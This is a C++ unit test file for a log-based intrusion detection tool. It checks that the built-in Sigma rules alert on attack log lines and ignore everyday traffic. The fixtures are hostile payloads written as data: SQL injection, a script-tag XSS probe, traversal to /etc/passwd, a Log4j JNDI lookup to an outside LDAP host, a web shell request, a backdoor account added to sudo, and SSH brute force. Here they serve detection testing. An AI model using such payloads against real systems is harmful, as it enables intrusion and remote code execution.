// Pantau's own rules (rules/) against real-looking log lines: each rule fires on the attack it
// names and stays quiet on everyday traffic. Lines go through the decoders as `pantau serve`
// would decode them, matches through the correlation engine.
#include "detect/sigma/builtin_rules.h"

#include <gtest/gtest.h>

#include <set>

#include "decode/decoder.h"
#include "detect/correlate/correlation_engine.h"
#include "detect/sigma/rule_set.h"

namespace pantau {
namespace {

class BuiltinRulesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    sigma::LoadOptions options;
    for (const auto& [name, text] : sigma::BuiltinRules()) {
      options.texts.emplace_back(std::string(name), std::string(text));
    }
    std::vector<sigma::RuleProblem> problems;
    size_t documents = 0;
    auto rules = sigma::RuleSet::Load({}, options, problems, documents);
    ASSERT_TRUE(rules.ok()) << rules.status().message();
    for (const auto& p : problems) ADD_FAILURE() << p.ToString();
    EXPECT_EQ((*rules)->loaded_documents(), documents);
    rules_ = *rules;
    engine_ = std::make_unique<correlate::CorrelationEngine>(rules_);
  }

  // The titles of the alerts a line makes (standalone rules and correlations).
  std::set<std::string> Alerts(std::string_view line) {
    DecodeContext ctx;
    ctx.received = 1'795'000'000'000'000'000;
    ctx.input = "syslog-tcp";
    const Event e = Decode(line, Format::kAuto, ctx);
    std::set<std::string> out;
    rules_->Match(e, [&](const sigma::Rule& r) {
      if (r.standalone) out.insert(r.title);
      engine_->OnRuleMatch(r, e, [&](const correlate::CorrelationMatch& m) {
        if (m.rule->standalone) out.insert(m.rule->title);
      });
    });
    return out;
  }

  std::shared_ptr<const sigma::RuleSet> rules_;
  std::unique_ptr<correlate::CorrelationEngine> engine_;
};

using Titles = std::set<std::string>;

std::string Access(std::string_view request, int status = 200,
                   std::string_view agent = "Mozilla/5.0", std::string_view referrer = "-",
                   std::string_view ip = "203.0.113.9") {
  return std::string(ip) + " - - [27/Nov/2026:10:00:02 +0700] \"" + std::string(request) +
         " HTTP/1.1\" " + std::to_string(status) + " 512 \"" + std::string(referrer) + "\" \"" +
         std::string(agent) + "\"";
}

TEST_F(BuiltinRulesTest, WebAttacks) {
  EXPECT_EQ(Alerts(Access("GET /berita.php?id=1%20union%20select%201,2,3--")),
            Titles{"SQL Injection Attempt in a Web Request"});
  EXPECT_EQ(Alerts(Access("GET /cari?q=%3Cscript%3Ealert(1)%3C/script%3E")),
            Titles{"Cross-Site Scripting Attempt in a Web Request"});
  EXPECT_EQ(Alerts(Access("GET /download.php?file=../../../../etc/passwd")),
            Titles{"Path Traversal Attempt in a Web Request"});
  EXPECT_EQ(Alerts(Access("GET /?x=${jndi:ldap://203.0.113.9/a}")),
            Titles{"Remote Code Execution Attempt in a Web Request"});
  EXPECT_EQ(Alerts(Access("POST /wp-content/uploads/2026/11/shell.php")),
            Titles{"Request to a Known Web Shell Name"});
  EXPECT_EQ(Alerts(Access("GET /wp-content/uploads/2026/11/foto.jpg")), Titles{});
  EXPECT_EQ(Alerts(Access("GET /wp-content/uploads/x.php", 404)), Titles{});  // not served
  EXPECT_EQ(Alerts(Access("GET /", 200, "sqlmap/1.7#stable (https://sqlmap.org)")),
            Titles{"Web Vulnerability Scanner User Agent"});
  EXPECT_EQ(Alerts(Access("GET /pengumuman/slot-gacor-maxwin-hari-ini")),
            Titles{"Online Gambling Terms in a Web Request or Referrer"});
  EXPECT_EQ(Alerts(Access("GET /", 200, "Mozilla/5.0", "https://situs.example/slot88-login")),
            Titles{"Online Gambling Terms in a Web Request or Referrer"});
  // Everyday traffic.
  EXPECT_EQ(Alerts(Access("GET /berita/2026/11/27/rapat-koordinasi")), Titles{});
  EXPECT_EQ(Alerts(Access("GET /search?q=jadwal+pelayanan")), Titles{});
}

TEST_F(BuiltinRulesTest, WebLoginBruteForce) {
  for (int i = 0; i < 19; ++i) {
    EXPECT_EQ(Alerts(Access("POST /wp-login.php", 200)), Titles{}) << i;
  }
  EXPECT_EQ(Alerts(Access("POST /wp-login.php", 200)), Titles{"Web Login Brute Force"});
  // Another address starts its own count.
  EXPECT_EQ(Alerts(Access("POST /wp-login.php", 200, "Mozilla/5.0", "-", "198.51.100.7")),
            Titles{});
}

TEST_F(BuiltinRulesTest, Fortigate) {
  EXPECT_EQ(Alerts("date=2026-11-27 time=10:02:00 devname=\"FG100E\" logid=\"0419016384\" "
                   "type=\"utm\" subtype=\"ips\" level=\"alert\" srcip=203.0.113.50 "
                   "dstip=10.1.1.20 action=\"dropped\" "
                   "attack=\"Apache.Log4j.Error.Log.Remote.Code.Execution\""),
            Titles{"FortiGate IPS Blocked an Attack"});
  EXPECT_EQ(Alerts("date=2026-11-27 time=10:02:00 devname=\"FG100E\" logid=\"0211008192\" "
                   "type=\"utm\" subtype=\"virus\" level=\"warning\" action=\"blocked\" "
                   "virus=\"EICAR_TEST_FILE\""),
            Titles{"FortiGate Antivirus Detected Malware"});
  EXPECT_EQ(Alerts("date=2026-11-27 time=10:02:00 devname=\"FG100E\" logid=\"0316013056\" "
                   "type=\"utm\" subtype=\"webfilter\" action=\"blocked\" "
                   "hostname=\"slot88.example\" catdesc=\"Gambling\""),
            Titles{"FortiGate Web Filter Blocked a Site"});
  EXPECT_EQ(Alerts("date=2026-11-27 time=10:05:00 devname=\"FG100E\" logid=\"0100032002\" "
                   "type=\"event\" subtype=\"system\" level=\"alert\" user=\"admin\" "
                   "action=\"login\" status=\"failed\" logdesc=\"Admin login failed\""),
            Titles{"FortiGate Administrator Login"});
  EXPECT_EQ(Alerts("date=2026-11-27 time=10:01:02 devname=\"FG100E\" logid=\"0000000013\" "
                   "type=\"traffic\" subtype=\"forward\" srcip=10.1.1.5 dstip=93.184.216.34 "
                   "action=\"accept\""),
            Titles{});
}

TEST_F(BuiltinRulesTest, LinuxAccounts) {
  EXPECT_EQ(Alerts("<86>Nov 27 10:00:00 web01 useradd[999]: new user: name=backdoor, UID=1001, "
                   "GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0"),
            Titles{"New Local User on a Linux Server"});
  EXPECT_EQ(Alerts("<86>Nov 27 10:00:01 web01 usermod[1000]: add 'backdoor' to group 'sudo'"),
            Titles{"User Added to an Administrators Group on Linux"});
  EXPECT_EQ(Alerts("<86>Nov 27 10:00:01 web01 usermod[1000]: add 'budi' to group 'audio'"),
            Titles{});
  EXPECT_EQ(Alerts("<86>Nov 27 10:00:03 web01 sudo:     budi : TTY=pts/0 ; PWD=/home/budi ; "
                   "USER=root ; COMMAND=/usr/sbin/visudo -f /etc/sudoers.d/budi"),
            Titles{"Sudoers Changed Through Sudo"});
  EXPECT_EQ(Alerts("<86>Nov 27 10:00:03 web01 sudo:     budi : TTY=pts/0 ; PWD=/home/budi ; "
                   "USER=root ; COMMAND=/usr/bin/apt update"),
            Titles{});
  EXPECT_EQ(Alerts("<38>Nov 27 10:00:02 web01 sshd[4242]: Invalid user oracle from 203.0.113.9 "
                   "port 52113"),
            Titles{"SSH Login Attempt for a User That Does Not Exist"});
}

TEST_F(BuiltinRulesTest, SshBruteForceAndTheLoginAfterIt) {
  auto failed = [&](int second) {
    return Alerts("<38>Nov 27 10:00:" + std::string(second < 10 ? "0" : "") +
                  std::to_string(second) +
                  " web01 sshd[4242]: Failed password for root from 203.0.113.9 port 52113 ssh2");
  };
  for (int i = 0; i < 9; ++i) EXPECT_EQ(failed(i), Titles{}) << i;  // single failures: no alert
  EXPECT_EQ(failed(9), Titles{"SSH Brute Force Against a Server"});
  EXPECT_EQ(Alerts("<38>Nov 27 10:01:00 web01 sshd[4243]: Accepted password for root from "
                   "203.0.113.9 port 52200 ssh2"),
            Titles{"SSH Login After a Brute Force"});
  // A login from elsewhere is just a login.
  EXPECT_EQ(Alerts("<38>Nov 27 10:01:00 web01 sshd[4244]: Accepted publickey for budi from "
                   "10.0.0.5 port 50000 ssh2"),
            Titles{});
}

}  // namespace
}  // namespace pantau
